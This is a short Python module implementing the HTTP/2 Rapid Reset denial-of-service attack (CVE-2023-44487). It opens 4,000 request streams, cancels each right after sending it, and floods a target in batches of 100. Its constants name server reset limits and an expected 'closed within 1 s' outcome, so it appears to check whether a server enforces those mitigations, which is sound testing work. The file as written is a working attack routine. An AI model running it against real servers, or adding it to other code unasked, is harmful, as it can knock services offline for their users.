"""Rapid reset (CVE-2023-44487): whole calls, each cancelled behind its last byte."""

from frames import SEARCH, block, call, flood, reset

LIMIT = "`session.resetsBurstMax` 1,000, then `session.resetsPerSecondMax` 33"
RULE = "closed within 1 s"


def run(target):
    head = block(SEARCH)
    numbers = range(1, 2 * 4_000, 2)
    calls = [call(number, head) + reset(number) for number in numbers]
    pieces = [(b"".join(calls[first:first + 100]), 100) for first in range(0, len(calls), 100)]
    return flood(target, b"", pieces, 1_000)
